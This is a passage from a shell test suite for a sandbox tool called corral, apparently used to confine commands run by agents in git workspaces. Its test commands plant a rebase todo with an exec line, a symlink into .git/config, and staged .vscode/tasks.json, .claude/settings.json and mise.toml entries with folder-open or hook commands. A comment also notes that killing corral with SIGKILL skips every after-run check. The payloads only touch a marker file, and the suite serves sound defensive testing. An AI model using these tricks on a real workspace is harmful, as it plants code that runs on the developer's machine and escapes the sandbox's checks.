		for i in $(seq 1 100); do [ -e .git/rebase-merge ] || break; sleep 0.1; done
		mv .git/rebase-merge.corral-refused-* .git/rebase-merge && echo MOVED-BACK' > "$T/b.out" 2>&1
	local bpid=$BG_PID
	wait "$apid" || true
	wait "$bpid" || true
	cat "$T/a.out" "$T/b.out" >&2
	GIT_EDITOR=true dev_git "$WS" rebase --continue > /dev/null 2>&1 || true
	[ ! -e "$MARK" ] || fail "the developer's git rebase --continue ran the exec line: $(cat "$MARK")"
}

# ---------------------------------------------------------------------------
# 14. Every after-run check runs in corral's supervisor after the sandbox
#     ends. If corral itself is killed (an agent's tool timeout, SIGKILL to
#     the process group), none runs; and the next run takes what it finds as
#     its starting point, so no later check looks at it either.
@test "commits attack: corral killed (SIGKILL) after the command planted an exec todo: no check runs, now or in the next run" {
	dev_git "$WS" commit -q --allow-empty -m second
	bg "$CORRAL" run --git commits -- env HOME="$HOME" MARK="$MARK" bash -c '
		printf "#!/bin/sh\necho \"\$0\" >> %s\n" "$MARK" > x.sh; chmod +x x.sh
		GIT_SEQUENCE_EDITOR="sed -i 1ibreak" git rebase -q -i HEAD~1 2>/dev/null
		echo "exec $PWD/x.sh" > t; cat .git/rebase-merge/git-rebase-todo >> t; cp t .git/rebase-merge/git-rebase-todo
		ln -s ../config .git/logs/evil
		touch planted; sleep 60' > "$T/a.out" 2>&1
	local apid=$BG_PID
	wait_for_file "$WS/planted" 100
	kill -KILL "$apid"
	wait "$apid" || true
	sleep 1
	run corral run --git commits -- true
	run corral run --git commits -- true
	[ -d "$WS/.git/rebase-merge" ] && echo "exec todo still in place" >&2
	[ -L "$WS/.git/logs/evil" ] && echo "link still in place" >&2
	GIT_EDITOR=true dev_git "$WS" rebase --continue > /dev/null 2>&1 || true
	[ ! -e "$MARK" ] || fail "the developer's git rebase --continue ran the exec line: $(cat "$MARK")"
}

@test "commits: corral sent SIGTERM after the command planted an exec todo still runs its check" {
	dev_git "$WS" commit -q --allow-empty -m second
	bg "$CORRAL" run --git commits -- env HOME="$HOME" MARK="$MARK" bash -c '
		printf "#!/bin/sh\necho \"\$0\" >> %s\n" "$MARK" > x.sh; chmod +x x.sh
		GIT_SEQUENCE_EDITOR="sed -i 1ibreak" git rebase -q -i HEAD~1 2>/dev/null
		echo "exec $PWD/x.sh" > t; cat .git/rebase-merge/git-rebase-todo >> t; cp t .git/rebase-merge/git-rebase-todo
		ln -s ../config .git/logs/evil
		touch planted; sleep 60' > "$T/a.out" 2>&1
	local apid=$BG_PID
	wait_for_file "$WS/planted" 100
	kill -TERM "$apid"
	wait "$apid" || true
	sleep 1
	run corral run --git commits -- true
	run corral run --git commits -- true
	[ -d "$WS/.git/rebase-merge" ] && echo "exec todo still in place" >&2
	[ -L "$WS/.git/logs/evil" ] && echo "link still in place" >&2
	GIT_EDITOR=true dev_git "$WS" rebase --continue > /dev/null 2>&1 || true
	[ ! -e "$MARK" ] || fail "the developer's git rebase --continue ran the exec line: $(cat "$MARK")"
}

# 15. Protected names through the index (attack F1): the command cannot
#     create .vscode/tasks.json, but it can stage one (git update-index
#     --cacheinfo, no file written), and git trusts its index: the
#     developer's routine git checkout -- . or git restore . writes the entry
#     into the workspace, outside the sandbox. An index the run leaves with
#     an entry under a protected name that it did not hold identically
#     before (path, mode, object) is not taken, below the top too.
IDX_PROTECTED='stage() { git update-index --add --cacheinfo "100644,$(printf "%s\n" "$2" | git hash-object -w --stdin),$1"; }
	mkdir .vscode 2>/dev/null && echo MKDIR-WORKED
	stage .vscode/tasks.json "{\"tasks\":[{\"command\":\"touch $MARK\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}" &&
	stage .claude/settings.json "{\"hooks\":{}}" && stage pkg/.VSCode/tasks.json x && stage .config/mise.toml x &&
	echo STAGED'
idx_protected_outside() { # the developer's routine commands; none may write a protected name
	dev_git "$WS" checkout -- . > /dev/null 2>&1 || true
	dev_git "$WS" restore . > /dev/null 2>&1 || true
}

@test "commits attack: protected names staged through the index (.vscode/tasks.json, .claude, pkg/.VSCode, .config/mise.toml) are not imported" {
	run gc "$IDX_PROTECTED"
	assert_output_has STAGED
	assert_output_has SB-END
	refute_output_has MKDIR-WORKED
	assert_output_has "under a protected name"
	assert_output_has "set aside" # (userns: not imported; users: the index renamed)
	idx_protected_outside
	for p in .vscode .claude pkg .config; do
		[ ! -e "$WS/$p" ] || fail "the developer's git checkout wrote $p from the run's index"
	done
}

@test "commits attack: a protected name below the top (pkg/.vscode, within protect_depth) or mise's .config/mise.toml staged alone is not imported" {
	run gc 'stage() { git update-index --add --cacheinfo "100644,$(printf "%s\n" "$2" | git hash-object -w --stdin),$1"; }
	stage pkg/.vscode/tasks.json x && stage .config/mise.toml "[hooks]" && echo STAGED'
	assert_output_has STAGED
	assert_output_has "under a protected name"
	idx_protected_outside
	[ ! -e "$WS/pkg" ] && [ ! -e "$WS/.config" ] || fail "the developer's git checkout wrote pkg/.vscode or .config/mise.toml"
}

@test "control: protected names staged through the index are written by the developer's git checkout -- ." {
	plain "$IDX_PROTECTED"
	idx_protected_outside
	[ -f "$WS/.vscode/tasks.json" ] && [ -f "$WS/.claude/settings.json" ] ||
		fail "control: git checkout -- . did not write what the index named"
}

@test "commits: an index that holds a protected name as before is imported; one changing its object is not" {
	mkdir -p "$WS/.vscode"
	echo '{}' > "$WS/.vscode/settings.json"
	dev_git "$WS" add .vscode/settings.json
	dev_git "$WS" commit -q -m vscode
	run gc 'echo two >> f.txt && git add f.txt && echo ADDED'
	assert_output_has ADDED
	refute_output_has "not imported"
	[ "$(dev_git "$WS" diff --cached --name-only)" = f.txt ] || fail "the run's index was not imported"
	dev_git "$WS" reset -q
	run gc 'git update-index --cacheinfo "100644,$(echo evil | git hash-object -w --stdin),.vscode/settings.json" && echo CHANGED'
	assert_output_has CHANGED
	assert_output_has "naming .vscode/settings.json, under a protected name"
	dev_git "$WS" checkout -- . > /dev/null 2>&1 || true
	[ "$(cat "$WS/.vscode/settings.json")" = '{}' ] || fail "the developer's checkout wrote the run's .vscode/settings.json"
}
